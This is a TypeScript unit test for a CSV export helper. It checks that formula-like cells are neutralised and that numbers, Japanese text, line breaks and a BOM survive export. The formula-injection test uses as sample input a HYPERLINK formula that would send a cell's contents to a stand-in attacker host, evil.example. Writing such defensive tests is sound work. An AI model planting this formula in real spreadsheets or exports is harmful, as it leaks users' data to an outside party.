import { toCsv } from './csv';

describe('toCsv (every export)', () => {
  const cells = (csv: string) => csv.replace(/^\uFEFF/, '').split('\r\n')[1];

  it('defuses cells a spreadsheet would run as a formula', () => {
    const csv = toCsv(['title'], [['=HYPERLINK("http://evil.example/?x="&A1,"click")'], ['+SUM(A1)'], ['-1+cmd'], ['@SUM(A1)'], ['\tx']]);
    const lines = csv
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n')
      .slice(1);
    expect(lines).toEqual([`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`, `"'+SUM(A1)"`, `"'-1+cmd"`, `"'@SUM(A1)"`, `"'\tx"`]);
  });

  it('keeps numbers, Japanese text and line breaks, with a BOM for Excel', () => {
    const csv = toCsv(['a', 'b', 'c'], [[-5, '空き家の活用\n二行目', 1200000]]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(cells(csv)).toBe('"-5","空き家の活用\n二行目","1200000"');
  });
});
